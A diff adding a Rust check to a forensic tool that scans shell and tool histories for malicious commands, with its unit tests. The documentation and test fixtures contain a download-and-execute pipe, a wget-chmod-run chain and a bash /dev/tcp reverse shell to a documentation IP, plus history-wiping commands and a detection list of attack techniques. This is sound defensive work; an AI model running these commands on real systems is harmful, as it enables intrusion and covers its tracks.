@@ -1,0 +1,191 @@
+//! `history.suspicious_command` — commands in users' shell and tool histories that match the
+//! malicious-command detector.
+//!
+//! **What it looks at:** every history file of every home (`~/.bash_history`, zsh, fish, sh/ash,
+//! python, mysql, psql, redis-cli, less, viminfo — see `huoyan_artifacts::history`) of every
+//! account, `/root`, and orphaned directories under `/home`. Each entry goes through
+//! `huoyan_cmdscan`: reverse shells, download-and-execute, `chmod +x` and `./` from /tmp or
+//! hidden directories, compilers, tunnels and scanners (nmap, masscan, frp, ngrok, socat,
+//! ssh -D/-R, proxychains, fscan), credential access (/etc/shadow, id_rsa, mimipenguin), hidden
+//! files and sensitive suffixes, persistence edits (crontab -e, systemctl enable,
+//! authorized_keys), anti-forensics (history -c, unset HISTFILE, HISTSIZE=0, rm of logs,
+//! shred, touch -r/-d, chattr +i). Entries with a timestamp outside `--since`/`--until` are
+//! skipped; entries without one are always examined.
+//!
+//! **Why an attacker leaves this trace:** an interactive shell records what it runs unless told
+//! not to, and intruders work fast: the download, the `chmod +x`, the reverse shell and the
+//! attempt to wipe the history often all sit in the same file.
+//!
+//! **Example:** `/root/.bash_history` line 212 (2026-11-27 03:12:09 UTC):
+//! `curl -fsSL http://198.51.100.4/x.sh | bash` → download_exec, high.
+//!
+//! **ATT&CK:** T1059.004 (Unix Shell), plus the technique of every rule that matched.
+
+use huoyan_artifacts::history::read_user_histories;
+use huoyan_core::{CheckInfo, Gap, GapReason, Outcome};
+
+use crate::command_findings::{finding_for, CommandSource};
+use crate::registry::{Area, Check};
+use crate::Context;
+
+/// See the module documentation.
+pub struct SuspiciousHistoryCommand;
+
+/// At most this many findings per history file (a history full of `make` is not 5,000 findings).
+pub const MAX_FINDINGS_PER_FILE: usize = 300;
+
+static INFO: CheckInfo = CheckInfo {
+    id: "history.suspicious_command",
+    title: "Suspicious command in a shell or tool history",
+    title_zh: "shell 或工具历史记录中存在可疑命令",
+    mitre: &["T1059.004"],
+    remediation: "Read the history around this line to reconstruct the session; correlate its \
+                  time with auth logs and wtmp to find the login it came from.",
+    remediation_zh: "阅读该行前后的历史记录以还原操作过程；结合认证日志和 wtmp \
+                     中的时间找到对应的登录来源。",
+};
+
+impl Check for SuspiciousHistoryCommand {
+    fn info(&self) -> &'static CheckInfo {
+        &INFO
+    }
+
+    fn area(&self) -> Area {
+        Area::History
+    }
+
+    fn run(&self, ctx: &Context, out: &mut Outcome) {
+        for home in crate::homes::homes(ctx) {
+            let (files, errors) = read_user_histories(&ctx.root, &home.user, &home.path);
+            for e in &errors {
+                out.gap_from(INFO.id, e, true);
+            }
+            for file in files {
+                if file.truncated {
+                    out.gap(Gap {
+                        area: INFO.id.into(),
+                        path: Some(file.path.clone()),
+                        reason: GapReason::Truncated,
+                        detail: "history larger than the read cap; only its start was examined"
+                            .into(),
+                    });
+                }
+                let mut reported = 0usize;
+                for entry in &file.entries {
+                    if !ctx.window.contains(entry.time) {
+                        continue;
+                    }
+                    let hits = huoyan_cmdscan::scan(&entry.command);
+                    if hits.is_empty() {
+                        continue;
+                    }
+                    if reported >= MAX_FINDINGS_PER_FILE {
+                        out.gap(Gap {
+                            area: INFO.id.into(),
+                            path: Some(file.path.clone()),
+                            reason: GapReason::Truncated,
+                            detail: format!(
+                                "more than {MAX_FINDINGS_PER_FILE} suspicious entries; the rest are not reported"
+                            ),
+                        });
+                        break;
+                    }
+                    let source = CommandSource {
+                        path: &file.path,
+                        line: entry.line,
+                        user: Some(&home.user),
+                        time: entry.time,
+                        what: "history entry",
+                    };
+                    if let Some(mut f) = finding_for(&INFO, &source, &entry.command, &hits) {
+                        if let Some(obj) = f.evidence.as_object_mut() {
+                            obj.insert("history_kind".into(), serde_json::json!(file.kind));
+                            obj.insert("orphaned_home".into(), serde_json::json!(home.orphaned));
+                        }
+                        out.add(f.at(entry.time));
+                        reported += 1;
+                    }
+                }
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use huoyan_core::{Root, Severity, Window};
+
+    fn ctx_with(files: &[(&str, &[u8])]) -> (tempfile::TempDir, Context) {
+        let dir = tempfile::tempdir().expect("tempdir");
+        std::fs::create_dir_all(dir.path().join("etc")).expect("mkdir");
+        std::fs::write(
+            dir.path().join("etc/passwd"),
+            "root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000::/home/alice:/bin/bash\n",
+        )
+        .expect("passwd");
+        for (path, data) in files {
+            let p = dir.path().join(path.trim_start_matches('/'));
+            std::fs::create_dir_all(p.parent().expect("parent")).expect("mkdir");
+            std::fs::write(p, data).expect("write");
+        }
+        let ctx = Context::new(Root::new(dir.path()).expect("root"), Window::default());
+        (dir, ctx)
+    }
+
+    #[test]
+    fn flags_attacker_history_with_line_user_and_time() {
+        let (_d, ctx) = ctx_with(&[
+            (
+                "/home/alice/.bash_history",
+                b"ls\n#1700000000\nwget http://198.51.100.4/x -O /tmp/x; chmod +x /tmp/x; /tmp/x\n#1700000100\nhistory -c\n",
+            ),
+            ("/root/.zsh_history", b": 1700000200:0;bash -i >& /dev/tcp/198.51.100.4/443 0>&1\n"),
+        ]);
+        let mut out = Outcome::default();
+        SuspiciousHistoryCommand.run(&ctx, &mut out);
+        let download = out
+            .findings
+            .iter()
+            .find(|f| f.paths == ["/home/alice/.bash_history"] && f.evidence["line"] == 3)
+            .expect("download finding");
+        assert_eq!(download.users, ["alice"]);
+        assert_eq!(download.time.map(|t| t.as_second()), Some(1_700_000_000));
+        assert!(download.severity >= Severity::High);
+        assert!(out
+            .findings
+            .iter()
+            .any(|f| f.evidence["line"] == 5 && f.summary.contains("anti_forensics")));
+        let revshell = out
+            .findings
+            .iter()
+            .find(|f| f.paths == ["/root/.zsh_history"])
+            .expect("zsh finding");
+        assert_eq!(revshell.severity, Severity::Critical);
+        assert_eq!(revshell.users, ["root"]);
+    }
+
+    #[test]
+    fn window_filters_timed_entries() {
+        let (_d, mut ctx) = ctx_with(&[(
+            "/root/.bash_history",
+            b"#1600000000\nhistory -c\n#1700000000\nunset HISTFILE\n",
+        )]);
+        ctx.window.since = huoyan_core::time::from_unix(1_650_000_000, 0);
+        let mut out = Outcome::default();
+        SuspiciousHistoryCommand.run(&ctx, &mut out);
+        assert_eq!(out.findings.len(), 1);
+        assert_eq!(out.findings[0].evidence["line"], 4);
+    }
+
+    #[test]
+    fn benign_history_is_quiet() {
+        let (_d, ctx) = ctx_with(&[(
+            "/home/alice/.bash_history",
+            b"ls -la\ncd /var/www\ngit pull\nsudo systemctl restart nginx\ntail -f /var/log/nginx/error.log\nvim index.php\n",
+        )]);
+        let mut out = Outcome::default();
+        SuspiciousHistoryCommand.run(&ctx, &mut out);
+        assert!(out.findings.is_empty(), "{:?}", out.findings);
+    }
+}
